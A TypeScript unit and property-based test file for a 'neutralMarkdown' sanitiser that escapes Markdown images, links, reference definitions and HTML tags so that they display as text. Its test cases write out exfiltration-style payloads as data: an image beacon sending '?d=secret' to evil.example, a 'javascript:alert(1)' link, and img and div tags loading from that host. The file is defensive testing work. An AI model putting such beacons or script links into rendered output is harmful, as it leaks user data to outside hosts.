import fc from "fast-check";
import { describe, expect, test } from "vitest";

import { neutralMarkdown } from "./neutral-markdown.ts";

/** What a renderer could take for a picture, a link, a definition or a tag. */
const live = /(?<!\\)!\[|(?<!\\)\][ \t]*\((?![\w./#-]*\))|(?<!\\)\][ \t]*[[:]|<[a-z/!?]/iu;

describe("neutralMarkdown()", () => {
  test.each([
    ["![beacon](https://evil.example/?d=secret)", "\\!\\[beacon\\]\\(https://evil.example/?d=secret)"],
    ["[read me](https://evil.example/?d=secret)", "[read me\\]\\(https://evil.example/?d=secret)"],
    ["![a[b]](https://evil.example)", "\\!\\[a[b]\\]\\(https://evil.example)"],
    ['[a](<javascript:alert(1)> "title")', '[a\\]\\(<javascript:alert(1)> "title")'],
    ["[a](//evil.example)", "[a\\]\\(//evil.example)"],
    ["![ref][1]\n\n[1]: https://evil.example", "\\!\\[ref\\]\\[1]\n\n[1\\]\\: https://evil.example"],
    ['<img src="https://evil.example">', '&lt;img src="https://evil.example">'],
    ["<div style='background:url(//evil.example)'>", "&lt;div style='background:url(//evil.example)'>"],
  ])("shows %j as text", (text, shown) => {
    expect(neutralMarkdown(text)).toBe(shown.replaceAll("<javascript", "&lt;javascript"));
  });

  test("leaves what loads nothing and leads nowhere else as it is", () => {
    const text =
      "# Title\n\n- `a[0](b)` and **bold** < 3\n- [below](#title), [file](docs/a.md)\n\n2 > 1 !important [x] !";

    expect(neutralMarkdown(text)).toBe(text);
  });

  test("leaves no picture, no tag and no link that leads away, whatever the text", () => {
    const pieces = fc.constantFrom(
      "!",
      "[",
      "]",
      "(",
      ")",
      "<",
      ">",
      "a",
      " ",
      "\n",
      "img",
      "//e.example/",
      '"',
      ":",
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 25 }), (words) => {
        expect(neutralMarkdown(words.join(""))).not.toMatch(live);
      }),
    );
  });
});
